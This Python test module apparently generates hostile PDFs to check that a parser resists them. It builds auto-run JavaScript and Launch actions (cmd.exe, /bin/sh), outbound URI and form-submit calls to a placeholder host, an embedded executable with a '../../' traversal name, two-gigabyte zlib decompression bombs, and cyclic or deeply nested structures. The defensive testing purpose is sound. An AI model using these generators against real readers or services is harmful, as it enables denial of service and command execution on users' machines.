"""PDFs with actions, bombs in their streams, and tables and pages that go in circles."""

from __future__ import annotations

import zlib
from collections.abc import Iterator, Sequence

from tests.hostile.traps import Trap

_PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 4 0 R>>>>/Contents 5 0 R>>"
_FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_TEXT = b"BT /F 12 Tf 50 700 Td (Zapis z jednani) Tj ET"


def traps(host: str = "203.0.113.7") -> Iterator[Trap]:
    """All of them."""
    for name, action in {
        "javascript": "<</S/JavaScript/JS(app.launchURL\\('http://" + host + "'\\))>>",
        "launch": "<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>/F(/bin/sh)>>",
        "uri": f"<</S/URI/URI(http://{host}/a)>>",
        "submit": f"<</S/SubmitForm/F<</FS/URL/F(http://{host}/b)>>>>",
        "goto-remote": f"<</S/GoToR/F<</FS/URL/F(http://{host}/c.pdf)>>/D[0/Fit]>>",
    }.items():
        yield Trap.of(f"{name}.pdf", pdf(["<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>", *_usual(), action]))
    yield Trap("embedded.pdf", lambda: pdf([
        "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(../../a.exe)6 0 R]>>>>>>", *_usual(),
        "<</Type/Filespec/F(../../a.exe)/EF<</F 7 0 R>>>>", stream(b"MZ" * 500)]))  # fmt: skip
    yield Trap("outside-stream.pdf", lambda: pdf([
        "<</Type/Catalog/Pages 2 0 R>>", _pages(1), _PAGE, _FONT,
        f"<</Length 0/F<</FS/URL/F(http://{host}/d)>>/FFilter/FlateDecode>>\nstream\n\nendstream"]))  # fmt: skip
    yield Trap("pages-100000.pdf", lambda: many_pages(100_000))
    yield Trap("count.pdf", lambda: pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", _PAGE,
                                         _FONT, stream(_TEXT)]))  # fmt: skip
    yield Trap(
        "cyclic-pages.pdf", lambda: pdf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"])
    )
    yield Trap("deep-pages.pdf", lambda: deep_pages(20_000))
    yield Trap("bomb.pdf", lambda: pdf(["<</Type/Catalog/Pages 2 0 R>>", _pages(1), _PAGE, _FONT, bomb(1)]))
    yield Trap("bomb-twice.pdf", lambda: pdf(["<</Type/Catalog/Pages 2 0 R>>", _pages(1), _PAGE, _FONT, bomb(2)]))
    yield Trap(
        "bomb-text.pdf", lambda: pdf(["<</Type/Catalog/Pages 2 0 R>>", _pages(1), _PAGE, _FONT, bomb(1, _TEXT + b"\n")])
    )
    yield Trap("bomb-object.pdf", object_stream)
    yield Trap("bomb-image.pdf", image)
    yield Trap("form-loop.pdf", lambda: pdf([
        "<</Type/Catalog/Pages 2 0 R>>", _pages(1),
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Contents 5 0 R>>", _FONT, stream(b"/X Do"),
        stream(b"/X Do /X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")]))  # fmt: skip
    yield Trap("self-length.pdf", lambda: pdf(["<</Type/Catalog/Pages 2 0 R>>", _pages(1), _PAGE, _FONT,
                                              "<</Length 5 0 R>>\nstream\nx\nendstream"]))  # fmt: skip
    yield Trap("reference-loop.pdf", lambda: pdf(["1 0 R", "2 0 R"]))
    yield Trap("previous-loop.pdf", lambda: _looped(pdf(["<</Type/Catalog/Pages 2 0 R>>", *_usual()])))
    yield Trap("no-table.pdf", lambda: pdf(["<</Type/Catalog/Pages 2 0 R>>", *_usual()]).partition(b"xref")[0])
    yield Trap("deep-arrays.pdf", lambda: pdf(["[" * 200_000, *_usual()]))
    yield Trap("deep-dictionaries.pdf", lambda: pdf(["<</A" * 100_000, *_usual()]))
    yield Trap(
        "many-objects.pdf", lambda: b"%PDF-1.4\n" + b"".join(b"%d 0 obj<<>>endobj\n" % n for n in range(500_000))
    )
    yield Trap("outline-loop.pdf", lambda: pdf(["<</Type/Catalog/Pages 2 0 R/Outlines 6 0 R>>", *_usual(),
                                               "<</First 6 0 R/Next 6 0 R/Last 6 0 R/Title(a)>>"]))  # fmt: skip
    yield Trap("cmap.pdf", lambda: _cmap())
    yield Trap("quits.pdf", lambda: pdf(["<</Type/Catalog/Pages 2 0 R>>", _pages(1), _PAGE, _FONT,
                                         stream(b"q " * 3_000_000 + _TEXT)]))  # fmt: skip
    yield Trap("huge-page.pdf", lambda: pdf(["<</Type/Catalog/Pages 2 0 R>>", _pages(1),
                                            _PAGE.replace("595 842", "1e30 1e30"), _FONT, stream(_TEXT)]))  # fmt: skip


def pdf(objects: Sequence[str | bytes]) -> bytes:
    """A PDF of these objects, numbered from one, with a true table."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + (body.encode() if isinstance(body, str) else body) + b"\nendobj\n"
    table = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(made + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(places) + 1, table))


def stream(data: bytes, more: str = "") -> bytes:
    """A stream object."""
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (more.encode(), len(data), data)


def _usual() -> list[str | bytes]:
    return [_pages(1), _PAGE, _FONT, stream(_TEXT)]


def _pages(count: int) -> str:
    return f"<</Type/Pages/Kids[3 0 R]/Count {count}>>"


def bomb(times: int, piece: bytes = bytes(1 << 10)) -> bytes:
    """A stream of two gigabytes, packed once or more."""
    packer, made = zlib.compressobj(9), bytearray()
    block = piece * ((1 << 20) // len(piece))
    for _ in range(2000):
        made += packer.compress(block)
    data = bytes(made + packer.flush())
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return stream(data, "/Filter[" + "/FlateDecode" * times + "]")


def many_pages(count: int) -> bytes:
    """A flat tree of so many pages, all with the same words."""
    kids = " ".join(f"{number} 0 R" for number in range(5, 5 + count))
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F 3 0 R>>>>/Contents 4 0 R>>"
    return pdf(["<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Count {count}/Kids[{kids}]>>", _FONT, stream(_TEXT),
                *[page] * count])  # fmt: skip


def deep_pages(depth: int) -> bytes:
    """A tree of pages in which each branch holds one branch."""
    chain = [f"<</Type/Pages/Count 1/Kids[{number} 0 R]>>" for number in range(3, depth + 3)]
    return pdf(["<</Type/Catalog/Pages 2 0 R>>", *chain, _PAGE])


def object_stream() -> bytes:
    """The objects themselves are in a bomb."""
    return pdf(["<</Type/Catalog/Pages 9 0 R>>", _pages(1), _PAGE, _FONT,
                bomb(1).replace(b"<<", b"<</Type/ObjStm/N 100000/First 10", 1)]) + b"\nstartxref\n0\n%%EOF"  # fmt: skip


def image() -> bytes:
    """A page that shows a picture of two gigabytes."""
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>>>/Contents 5 0 R>>"
    shown = bomb(1).replace(
        b"<<", b"<</Type/XObject/Subtype/Image/Width 44000/Height 44000/BitsPerComponent 8/ColorSpace/DeviceGray", 1
    )
    return pdf(["<</Type/Catalog/Pages 2 0 R>>", _pages(1), page, _FONT, stream(b"500 0 0 700 9 9 cm /X Do"), shown])


def _looped(data: bytes) -> bytes:
    place = int(data.rpartition(b"startxref\n")[2].split()[0])
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % place)


def _cmap() -> bytes:
    ranges = b"100 beginbfrange\n" + b"<0000><ffff><0000>\n" * 100 + b"endbfrange\n"
    font = (
        "<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/ToUnicode 6 0 R/DescendantFonts[<</Type/Font/Subtype"
    )
    font += "/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>]>>"
    return pdf(["<</Type/Catalog/Pages 2 0 R>>", _pages(1), _PAGE, font, stream(b"BT /F 9 Tf <00410042> Tj ET"),
                stream(b"/CIDInit/ProcSet findresource begin begincmap " + ranges * 2000 + b"endcmap")])  # fmt: skip
